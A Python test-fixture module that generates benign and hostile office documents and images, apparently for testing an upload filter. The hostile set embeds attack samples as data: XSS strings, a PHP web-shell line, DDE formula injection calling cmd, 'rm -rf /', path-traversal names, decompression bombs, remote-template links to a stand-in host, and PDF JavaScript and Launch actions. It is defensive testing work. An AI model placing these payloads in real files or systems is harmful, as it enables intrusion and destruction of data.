"""Files made in code: honest ones as offices have them, and hostile ones.

What is here is harmless: no file does anything but look like one that would.
"""

from __future__ import annotations

import struct
import unicodedata
import zlib
from collections.abc import Mapping

from tests.archives import MEGABYTE, SHEET, bomb, locked, lying, with_members, workbook, zipped

RELATIONS = "application/vnd.openxmlformats-package.relationships+xml"
FORMATS = "application/vnd.openxmlformats-officedocument"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LONG = "Báo cáo kết quả thực hiện nhiệm vụ ứng dụng công nghệ thông tin " * 3


def pdf(
    *objects: bytes, trailer: bytes = b"", tail: bytes = b"", pages: bytes = b"", version: str = "7"
) -> bytes:
    """A PDF of one page, with more objects after it."""
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + pages + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        stream(b"BT /F1 12 Tf (Bao cao) Tj ET"),
        *objects,
    ]
    out = bytearray(f"%PDF-1.{version}\n%\xe2\xe3\xcf\xd3\n".encode("latin-1"))
    places = []
    for number, each in enumerate(body, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n".encode() + each + b"\nendobj\n"
    start = len(out)
    out += f"xref\n0 {len(body) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010d} 00000 n \n".encode() for place in places)
    out += f"trailer\n<< /Size {len(body) + 1} /Root 1 0 R ".encode() + trailer + b">>\n"
    return bytes(out) + f"startxref\n{start}\n%%EOF\n".encode() + tail


def stream(content: bytes, *entries: bytes, packed: bool = True) -> bytes:
    """A PDF stream object."""
    kept = zlib.compress(content) if packed else content
    names = b" ".join([b"/Filter /FlateDecode" if packed else b"", *entries])
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(kept), names, kept)


def objects(content: bytes, *entries: bytes) -> bytes:
    """An object stream that holds one object."""
    return stream(b"9 0 " + content, b"/Type /ObjStm /N 1 /First 4", *entries)


def chunk(name: bytes, content: bytes) -> bytes:
    """A part of a PNG."""
    return (
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
    )


def png(*chunks: bytes, tail: bytes = b"", side: int = 4) -> bytes:
    """A white picture."""
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\x00" + b"\xff" * side) * side)
    parts = [chunk(b"IHDR", head), *chunks, chunk(b"IDAT", rows), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + tail


def jpeg(*segments: bytes, tail: bytes = b"", scanned: bytes = b"\x00\x3f" * 50) -> bytes:
    """What a camera or a scanner writes, as far as anybody here looks."""
    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"
    return head + b"".join(segments) + b"\xff\xda\x00\x08" + scanned + b"\xff\xd9" + tail


def segment(mark: int, content: bytes) -> bytes:
    """A part of a JPEG: 0xFE is a comment, 0xE1 is Exif."""
    return bytes([0xFF, mark]) + struct.pack(">H", len(content) + 2) + content


def docx(members: Mapping[str, bytes | str] | None = None, kind: str = "") -> bytes:
    """A Word document with a sentence in it; `kind` replaces what it says it is."""
    word = (
        kind or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    return zipped(
        {
            "[Content_Types].xml": f'<?xml version="1.0"?><Types><Default Extension="rels" '
            f'ContentType="{RELATIONS}"/><Override PartName="/word/document.xml" '
            f'ContentType="{word}"/></Types>',
            "_rels/.rels": relation("officeDocument", "word/document.xml"),
            "word/document.xml": "<w:document><w:p>Báo cáo số 01</w:p></w:document>",
            **(members or {}),
        }
    )


def relation(kind: str, target: str, *, external: bool = False) -> str:
    """A relationship part of one line."""
    mode = ' TargetMode="External"' if external else ""
    return (
        f'<Relationships><Relationship Id="rId1" Type="{OFFICE}/relationships/{kind}" '
        f'Target="{target}"{mode}/></Relationships>'
    )


def open_document(kind: str, members: Mapping[str, bytes | str] | None = None) -> bytes:
    """An ODT (`text`) or ODS (`spreadsheet`), with what LibreOffice always adds."""
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}",
            "content.xml": "<office:document-content>Báo cáo</office:document-content>",
            "Configurations2/accelerator/current.xml": "",
            "Basic/script-lc.xml": "<library:libraries/>",
            "Basic/Standard/script-lb.xml": "<library:library/>",
            "Thumbnails/thumbnail.png": png(),
            "META-INF/manifest.xml": "<manifest:manifest/>",
            **(members or {}),
        }
    )


def honest() -> dict[str, bytes]:
    """Name → content of files as offices have them. None may be refused."""
    told = "Đắk Lắk – báo cáo số 12.docx"
    blank_scan = stream(b"\xff" * MEGABYTE, b"/Type /XObject /Subtype /Image")
    camera = segment(0xE1, b"Exif\x00\x00" + b"Samsung" * 30) + segment(0xFE, b"<x:xmpmeta>")
    signature = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached >>"
    return {
        "bao-cao.pdf": pdf(),
        "Quyết định 4289.PDF": pdf(version="4"),
        "quét.pdf": pdf(blank_scan, stream(jpeg(), b"/Filter /DCTDecode", packed=False)),
        "có mục lục.pdf": pdf(
            objects(b"<< /Type /Outlines >>"), pages=b"/OpenAction [3 0 R /Fit] "
        ),
        "đã ký số.pdf": pdf(signature) + pdf()[-60:],
        "liên kết.pdf": pdf(b"<< /S /URI /URI (https://thanhhoa.gov.vn/javascript) >>"),
        "máy quét thêm số không.pdf": pdf(tail=b"\x00" * 5000),
        unicodedata.normalize("NFC", told): docx(),
        unicodedata.normalize("NFD", told): docx(),
        "mẫu.docx": docx(
            {
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "file:///C:\\Users\\An\\Normal.dotm", external=True
                ),
                "word/_rels/document.xml.rels": relation(
                    "hyperlink", "https://thanhhoa.gov.vn/a", external=True
                ),
                "word/embeddings/Bang_tinh1.xlsx": workbook(["chỉ tiêu", 12]),
                "word/media/trang.bmp": b"\xff" * (4 * MEGABYTE),
                "word/media/image1.emz": b"\x1f\x8b\x08\x00" + b"\x00" * 50,
            }
        ),
        "số liệu.xlsx": workbook(["mã", "tên"], *[[each, "Sở Ánh Sáng"] for each in range(2000)]),
        "số liệu.ods": open_document("spreadsheet"),
        "công văn.odt": open_document("text"),
        "ảnh.png": png(),
        "ảnh chụp.jpg": jpeg(camera),
        "ảnh ghép.jpeg": jpeg(tail=jpeg(tail=b"MotionPhoto_Data" + b"ftypmp42" * 20)),
        # Three bytes in a thousand of any photograph look like the beginning of something.
        "ảnh nhiễu.jpg": jpeg(scanned=b"\x12<svg\x80<SVG\x03PK\x03\x04MZ\x90 =a|b!" * 50),
        f"{LONG}.pdf": pdf(),
        f"{'Đ' * 240}.docx": docx(),
        "danh sách.csv": "\ufeffmã,tên,điện thoại\n01,Sở A,+84 237 1234\n02,Sở B,-5\n".encode(),
        "ghi chú.txt": "Tỷ lệ < 50% và > 20%; a|b! = c\n".encode(),
        "hai.lần.chấm.pdf": pdf(),
        "CHỮ HOA.DOCX": docx(),
    }


def hostile() -> dict[str, bytes]:
    """Name → content of files of which none may be kept."""
    return {**_polyglots(), **_programs(), **_bombs(), **_broken(), **_hostile_pdfs()}


def _polyglots() -> dict[str, bytes]:
    script = b"<script>alert(1)</script>"
    return {
        "pdf-zip.pdf": pdf(tail=docx()),
        "png-zip.png": png(tail=docx()),
        "jpg-jar.jpg": jpeg(tail=zipped({"META-INF/MANIFEST.MF": "", "A.class": b"\xca\xfe"})),
        "png-html.png": png(tail=b"<html>" + script),
        "png-svg.png": png(chunk(b"tEXt", b"a\x00<svg xmlns='x' onload='alert(1)'>")),
        "jpg-php.jpg": jpeg(segment(0xFE, b"<?php system($_GET[0]); ?>")),
        "jpg-script.jpg": jpeg(segment(0xFE, b"<ScRiPt >alert(1)")),
        "jpg-pdf.jpg": jpeg(tail=pdf()),
        "pdf-html.pdf": pdf(tail=b"<html><body onload=alert(1)>"),
        "gif-js.png": b"GIF89a/*" + png() + b"*/=1;alert(1)",
        "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "svg.png": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "page.html": b"<!DOCTYPE html><html>" + script,
        "page.txt": b"\n \xef\xbb\xbf<html>" + script,
        "later.txt": b"Bao cao\n" + script,
        "later.csv": b"ma,ten\n01,<img src=x onerror=alert(1)>\n",
        "dde.csv": b"ma,ten\n01,=cmd|' /C calc'!A0\n",
        "dde-quoted.csv": b'ma,ten\n01,"  @SUM(1)|cmd!A1"\n',
        "shell.txt": b"#!/bin/sh\nrm -rf /",
        "utf16.txt": "<script>".encode("utf-16"),
        "docx.pdf": docx(),
        "pdf.docx": pdf(),
        "xlsx.docx": workbook(["a"]),
        "odt.ods": open_document("text"),
        "zip.docx": zipped({"a.txt": "a"}),
        "png.jpg": png(),
        "jpg.pdf": jpeg(),
        "no-extension": pdf(),
        "exe.pdf": b"MZ\x90\x00" + b"\x00" * 500,
        "exe.exe": b"MZ\x90\x00" + b"\x00" * 500,
        "archive.zip": zipped({"a.pdf": pdf()}),
        "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
        "eicar.com": EICAR,
        "eicar.txt": EICAR,
        "eicar.docx": docx({"word/media/a.bin": EICAR}),
    }


def _programs() -> dict[str, bytes]:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return {
        "macro.docm": docx({"word/vbaProject.bin": b"\xd0\xcf"}, macro),
        "macro.docx": docx({"word/vbaProject.bin": b"\xd0\xcf"}),
        "renamed-macro.docx": docx({"word/x.bin": b"\xd0\xcf"}, macro),
        "macro.xlsx": with_members(workbook(["a"]), {"xl/VbaProject.bin": b"\xd0\xcf"}),
        "macro4.xlsx": with_members(workbook(["a"]), {"xl/macrosheets/sheet1.xml": "<x/>"}),
        "basic.ods": open_document("spreadsheet", {"Basic/Standard/Module1.xml": "Sub Main"}),
        "python.odt": open_document("text", {"Scripts/python/a.py": "import os"}),
        "package.docx": docx(
            {"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le") + b"a" * 9}
        ),
        "ole-macro.docx": docx(
            {"word/embeddings/a.bin": b"a" * 2**20 + "_VBA_PROJECT".encode("utf-16-le")}
        ),
        "program.docx": docx({"word/media/anh.png": b"MZ\x90\x00" + b"\x00" * 90}),
        "program-name.docx": docx({"word/media/Setup.EXE": b"a"}),
        "inner-macro.docx": docx(
            {"word/embeddings/a.xlsx": with_members(workbook(["a"]), {"xl/vbaProject.bin": b"a"})}
        ),
        "inner-zip.docx": docx({"word/media/a.png": zipped({"a": "a"})}),
        "inner-rar.docx": docx({"word/media/a.bin": b"Rar!\x1a\x07\x01\x00"}),
        "remote-template.docx": docx(
            {
                "word/_rels/settings.xml.rels": relation(
                    "attachedTemplate", "http://ke-xau.example/a.dotm", external=True
                )
            }
        ),
        "remote-share.docx": docx(
            {
                "word/_rels/document.xml.rels": relation(
                    "oleObject", "file://ke-xau.example/a.html", external=True
                )
            }
        ),
        "entities.docx": docx(
            {"word/document.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}
        ),
    }


def _bombs() -> dict[str, bytes]:
    small, smaller = bomb(40), bomb(19)
    book = workbook(["a"])
    return {
        "declared.xlsx": lying(book, SHEET, 210 * MEGABYTE),
        "ratio.xlsx": small,
        "lying.xlsx": lying(small, SHEET, 5000),
        "nested.docx": docx({"word/embeddings/a.xlsx": small}),
        "nested-deep.docx": docx(
            {"word/embeddings/a.docx": docx({"word/embeddings/b.docx": docx()})}
        ),
        "nested-many.docx": docx({f"word/{each}.xlsx": smaller for each in range(11)}),
        "many.docx": docx({f"word/{each}.xml": "" for each in range(5001)}),
        "two-of-one-name.docx": docx({"word/documenu.xml": "a"}).replace(b"documenu", b"document"),
    }


def _broken() -> dict[str, bytes]:
    word, book = docx(), workbook(["mã", "tên"])
    return {
        "empty.pdf": b"",
        "empty.txt": b"",
        "truncated.docx": word[: len(word) // 2],
        "truncated-end.xlsx": book[:-30],
        "truncated.pdf": pdf()[:-40],
        "truncated.png": png()[:-8],
        "truncated.jpg": jpeg()[:-2],
        "head.pdf": b"%PDF-",
        "head.docx": b"PK\x03\x04",
        "head.png": b"\x89PNG\r\n\x1a\n",
        "locked.docx": locked(word),
        "locked.ods": locked(open_document("spreadsheet")),
        "spoilt.docx": word.replace(b"word/document.xml", b"word/dokument.xml", 1),
        "traversal.docx": docx({"../../../etc/passwd": "a"}),
        "absolute.docx": docx({"/etc/passwd": "a"}),
        "windows.docx": docx({"word\\..\\..\\a.txt": "a"}),
        "drive.docx": docx({"C:/a.txt": "a"}),
        "huge.txt": b"a" * (2 * MEGABYTE + 1),
        "huge.pdf": pdf(tail=b"\x00" * (2 * MEGABYTE)),
    }


def _hostile_pdfs() -> dict[str, bytes]:
    program = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    deep = b"(" * 5000 + program
    return {
        "javascript.pdf": pdf(program, pages=b"/OpenAction 5 0 R "),
        "escaped.pdf": pdf(b"<< /S /Java#53#63ript /JS (1) >>"),
        "escaped-all.pdf": pdf(
            b"<< /S /" + b"".join(b"#%02X" % each for each in b"Launch") + b" >>"
        ),
        "launch.pdf": pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        "embedded.pdf": pdf(stream(b"MZ", b"/Type /EmbeddedFile")),
        "media.pdf": pdf(b"<< /Type /Annot /Subtype /RichMedia >>"),
        "rendition.pdf": pdf(b"<< /S /Rendition /JS (1) >>"),
        "elsewhere.pdf": pdf(b"<< /S /GoToE /T << /R /C >> >>"),
        "hidden.pdf": pdf(objects(program)),
        "hidden-escaped.pdf": pdf(objects(b"<< /S /#4aavaScript /JS (1) >>")),
        "hidden-deep.pdf": pdf(objects(deep)),
        "hidden-remark.pdf": pdf(stream(b"%a\n 9 0 " + program, b"/Type /Obj#53tm /N 1")),
        "hidden-twice.pdf": pdf(objects(program, b"/F [/ASCIIHexDecode /FlateDecode]")),
        "object-bomb.pdf": pdf(stream(b"1 2 " + b"0 " * (35 * MEGABYTE))),
        "password.pdf": pdf(trailer=b"/Encrypt 5 0 R /ID [<00> <00>] "),
        "password-in-stream.pdf": pdf(stream(b"", b"/Type /XRef /Encrypt<< /Filter /Standard >>")),
    }
